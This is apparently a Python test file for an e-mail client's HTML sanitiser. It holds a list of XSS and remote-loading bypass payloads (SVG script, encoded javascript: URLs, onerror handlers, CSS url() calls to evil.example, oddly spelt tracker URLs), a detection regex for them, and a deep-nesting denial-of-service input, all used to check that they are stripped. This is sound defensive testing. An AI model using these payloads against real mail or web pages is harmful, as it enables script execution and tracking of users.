"""Current sanitiser bypass vectors against the e-mail frame's HTML (hub.mail.html.sanitise): nothing
that runs, navigates the frame, loads a style sheet or reaches a remote server is left, whether
remote images are shown or not."""

from __future__ import annotations

import re

import pytest

from hub.mail.html import MAX_ELEMENTS, sanitise


def proxied(url: str) -> str:
    return "/mail/image?url=" + url.replace("&", "%26") + "&sig=s"


VECTORS = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img srcset="https://evil.example/x.png 1x">',
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">b</button><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); p{background:url(https://evil.example/p)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(evil.htc)">x</div>',
    '<div style="background:u&#114;l(http://evil.example/p.gif)">x</div>',
    '<div style="background:url(https:\\/\\/evil.example/p.gif)">x</div>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<table background="https://evil.example/bg.gif"><tr><td background="https://evil.example/x.gif">x</td></tr></table>',
    '<body background="https://evil.example/bg.gif" onload=alert(1)>x</body>',
    '<video poster="https://evil.example/p.gif"></video><audio src="https://evil.example/a.mp3"></audio>',
    '<a href="https://ok.example/" ping="https://evil.example/">x</a>',
    '<img src="https://ok.example/a.png" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
    '<input type=image src="https://evil.example/p.gif">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
]
FORBIDDEN = re.compile(
    r"<(script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|audio|map|area|body|noscript|template|textarea)\b"
    r"|\son[a-z]+\s*=|javascript|vbscript|data:|srcset|formaction|ping=|background=|position|evil\.example",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", VECTORS)
def test_bypass_vectors_leave_nothing_that_runs_or_loads(html: str) -> None:
    for shown in (sanitise(html), sanitise(html, proxied)):
        assert FORBIDDEN.search(shown) is None, shown
        # With images shown, a remote URL appears only inside hub's proxy URL.
        for src in re.findall(r'src="([^"]*)"', shown):
            assert src.startswith("/mail/image?url=https://ok.example/"), shown


@pytest.mark.parametrize(
    "src",
    [
        "https:/\\tracker.example/p.gif",
        "https:\\\\tracker.example/p.gif",
        " HTTPS://tracker.example/p.gif",
        "https:tracker.example/p.gif",
        "ht&#x09;tps://tracker.example/p.gif",
        "http:///tracker.example/p.gif",
        "&#x20;https://tracker.example/p.gif",
    ],
)
def test_remote_images_spelt_oddly_are_still_remote_images(src: str) -> None:
    # Browsers read all of these as a request to tracker.example; the sanitiser let them through
    # as they were (only the frame's CSP stood between them and the tracker).
    html = f'<p>Hallo</p><img src="{src}" width="1" height="1">'
    hidden = sanitise(html)
    assert "tracker" not in hidden and "Hallo" in hidden
    scheme = "http" if src.startswith("http:") else "https"
    shown = sanitise(html, proxied)
    assert re.findall(r'src="([^"]*)"', shown) == [proxied(f"{scheme}://tracker.example/p.gif").replace("&", "&amp;")]


def test_a_query_keeps_its_backslashes_and_cid_images_stay() -> None:
    shown = sanitise('<img src="https:\\\\cdn.example\\a.png?q=\\x"><img src="cid:logo@mail">', proxied)
    assert 'src="/mail/image?url=https://cdn.example/a.png?q=\\x&amp;sig=s"' in shown
    assert 'src="cid:logo@mail"' in shown
    assert sanitise('<img src="mailto:a@b.example">', proxied) == "<img>"


def test_inline_images_point_at_the_message_own_parts_when_hub_says_where() -> None:
    # RFC 2392: "cid:" holds the Content-ID %-encoded; hub maps it to the attachment's own URL.
    parts = {"logo@mail.example": "/emails/7/attachments/3"}
    html = '<img src="cid:logo%40mail.example" alt="Logo"><img src="cid:missing@mail.example">'
    shown = sanitise(html, None, parts.get)
    assert '<img src="/emails/7/attachments/3" alt="Logo">' in shown
    assert '<img src="cid:missing@mail.example">' in shown  # nothing to point at: left as it was
    assert sanitise(html) == '<img src="cid:logo%40mail.example" alt="Logo"><img src="cid:missing@mail.example">'


def test_html_nested_beyond_any_real_mail_is_shown_as_its_text() -> None:
    # html5ever's time grows with the square of the nesting depth: 100,000 nested <div>s took over
    # half a minute on every view. Past MAX_ELEMENTS the message is shown as escaped text instead.
    hostile = (
        "<div>" * (MAX_ELEMENTS + 1) + "Betaal &amp; <b>nu</b><script>alert(1)</script><img src=x onerror=alert(1)>"
    )
    shown = sanitise(hostile, proxied)
    assert shown.startswith('<pre style="white-space:pre-wrap">') and shown.endswith("</pre>")
    assert "Betaal &amp; nu alert(1)" in shown
    assert "<div" not in shown and "<script" not in shown and "<img" not in shown
    # Real mail, however long, is sanitised as usual; void elements (<br>, <img>) do not count.
    newsletter = "<table>" + "<tr><td><b>Aanbieding</b><br><br><br></td></tr>" * 2000 + "</table>"
    assert sanitise(newsletter).count("<b>Aanbieding</b>") == 2000
